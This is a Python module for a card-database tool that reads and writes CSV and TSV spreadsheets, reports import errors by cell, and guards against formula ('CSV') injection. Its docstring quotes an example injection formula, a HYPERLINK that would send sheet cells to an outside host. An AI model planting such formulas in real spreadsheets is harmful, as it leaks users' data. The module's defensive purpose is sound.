"""Spreadsheet files (CSV and TSV) as rows of text cells, each cell knowing its row and column.

A row number is the spreadsheet's own (the header is row 1), not a line of the
file: a cell may hold several lines. Reading never raises for bad input: a file
that cannot be read as a table is a located `E-IMPORT-FILE` finding.

The separator is chosen by the file's suffix (.tsv and .tab: tab) or, for
other files, by the header line: the one of comma, semicolon and tab it holds
most (European spreadsheets save "CSV" with semicolons). Files are read as UTF-8
(with or without the byte-order mark Excel writes) unless told otherwise, and
written as UTF-8 with that mark, so that Excel shows accented names correctly.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a
spreadsheet (OWASP's "CSV injection": a card named `=HYPERLINK("http://x/?"&A2,"y")` would
send the sheet's cells away when clicked). Such a cell is written with a `'` before it, which
spreadsheets read as "this is text" (`guarded_cell`), and read back without it
(`unguarded_cell`), so an export imports to the same cards. A plain number (`-3`) stays as it is.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path

from carddb.files.atomic import write_bytes
from carddb.files.reading import SPREADSHEET_BYTES, read_limited
from carddb.findings.diagnostics import Finding, Span

SEPARATORS = {"csv": ",", "tsv": "\t"}
# Five times the largest game carddb is measured with (10,000 cards); checking each row as a card is the slow part.
MAX_ROWS = 50_000
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def guarded_cell(text: str) -> str:
    """A cell as written to a file: a `'` before text a spreadsheet would run as a formula.

    A cell that already starts with quotes before such text gets one more, so that
    `unguarded_cell` (which removes exactly one) gives every cell back as it was.
    """
    if text.lstrip("'").startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def unguarded_cell(text: str) -> str:
    """A cell as read from a file: `guarded_cell` undone."""
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS):
        return text[1:]
    return text


TAB_SUFFIXES = {".tsv", ".tab"}


@dataclass(frozen=True)
class Row:
    number: int  # the spreadsheet's row number: the header is row 1
    cells: tuple[str, ...]


@dataclass
class Table:
    path: Path
    header: tuple[str, ...] = ()
    header_row: int = 1  # the first row that is not empty
    rows: list[Row] = field(default_factory=list)
    findings: list[Finding] = field(default_factory=list)


def column_letter(column: int) -> str:
    """1 -> A, 26 -> Z, 27 -> AA: how a spreadsheet names a column."""
    letters = ""
    while column > 0:
        column, rest = divmod(column - 1, 26)
        letters = chr(ord("A") + rest) + letters
    return letters


def cell_name(row: int, column: int) -> str:
    return f"{column_letter(column)}{row}"


def read_table(path: Path, *, separator: str | None = None, encoding: str = "utf-8") -> Table:
    table = Table(path)
    try:
        raw = read_limited(path, SPREADSHEET_BYTES, "spreadsheets")  # refused before any work on it
    except OSError as exc:
        table.findings.append(Finding("E-IMPORT-FILE", f"cannot be read: {exc.strerror or exc}", path))
        return table
    try:
        text = raw.decode("utf-8-sig" if encoding.replace("_", "-").lower() in {"utf-8", "utf8"} else encoding)
    except UnicodeDecodeError as exc:
        line = raw[: exc.start].count(b"\n") + 1
        table.findings.append(
            Finding(
                "E-IMPORT-FILE",
                f"is not {encoding} text (byte 0x{raw[exc.start]:02x})",
                path,
                Span.point(line, 1),
                hint="save it as 'CSV UTF-8', or name its encoding: --encoding cp1252 (Excel's 'CSV' on Windows)",
            )
        )
        return table
    except LookupError:
        table.findings.append(Finding("E-IMPORT-FILE", f"'{encoding}' is not a text encoding Python knows", path))
        return table
    if "\x00" in text:
        line = text[: text.index("\x00")].count("\n") + 1
        table.findings.append(
            Finding("E-IMPORT-FILE", "holds NUL characters: it is not a text spreadsheet", path, Span.point(line, 1))
        )
        return table
    separator = separator or _separator(path, text)
    try:
        records = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    except csv.Error as exc:
        table.findings.append(Finding("E-IMPORT-FILE", f"cannot be read as a table: {exc}", path))
        return table
    if records and _quote_left_open(text, separator):
        # The lenient reader put the rest of the file into the cell whose quote was opened last.
        row, column = len(records), len(records[-1])
        table.findings.append(
            Finding(
                "E-IMPORT-FILE",
                f"a quote opened in cell {cell_name(row, column)} is never closed, so the rest of the file "
                "was read into that cell",
                path,
                Span.point(row, column),
                hint='close the quote, or write a quote inside a quoted cell as two: ""',
            )
        )
        return table
    if len(records) > MAX_ROWS + 1:
        table.findings.append(
            Finding(
                "E-IMPORT-FILE",
                f"holds {len(records):,} rows; carddb imports up to {MAX_ROWS:,} cards at once",
                path,
                Span.point(MAX_ROWS + 2, 1),
                hint="split the spreadsheet, and import each part into its own card file (--to)",
            )
        )
        return table
    filled = [(index, cells) for index, cells in enumerate(records, start=1) if any(cell.strip() for cell in cells)]
    if not filled:
        table.findings.append(Finding("E-IMPORT-FILE", "is empty: there is no header row", path, Span.point(1, 1)))
        return table
    # The header is the first row with something in it; empty rows (spreadsheets leave some) are skipped.
    table.header_row, table.header = filled[0][0], tuple(unguarded_cell(cell) for cell in filled[0][1])
    table.rows = [Row(index, tuple(unguarded_cell(cell) for cell in cells)) for index, cells in filled[1:]]
    return table


def _quote_left_open(text: str, separator: str) -> bool:
    """Whether the file ends inside a quoted cell (only the strict reader tells; it is otherwise not used,
    as it also refuses what spreadsheets read without complaint, such as a quote right after a closing one)."""
    try:
        for _ in csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True):
            pass
    except csv.Error as exc:
        return "unexpected end of data" in str(exc)
    return False


def _separator(path: Path, text: str) -> str:
    if path.suffix.lower() in TAB_SUFFIXES:
        return "\t"
    first = text.split("\n", 1)[0]
    return max((",", ";", "\t"), key=first.count)


def write_table(
    path: Path, header: Sequence[str], rows: Sequence[Sequence[str]], *, separator: str = ",", anywhere: bool = False
) -> Path:
    """A spreadsheet file, written atomically: UTF-8 with a byte-order mark, lines ended CRLF as RFC 4180 has it.
    `anywhere`: the user named the file on the command line (see carddb.files.atomic)."""
    text = table_text(header, rows, separator=separator, line_end="\r\n")
    return write_bytes(path, text.encode("utf-8-sig"), anywhere=anywhere)


def table_text(
    header: Sequence[str], rows: Sequence[Sequence[str]], *, separator: str = ",", line_end: str = "\n"
) -> str:
    """The table as text: cells quoted where they must be (separators, quotes, line breaks), formulas guarded."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=separator, lineterminator=line_end)
    writer.writerow([guarded_cell(cell) for cell in header])
    writer.writerows([guarded_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
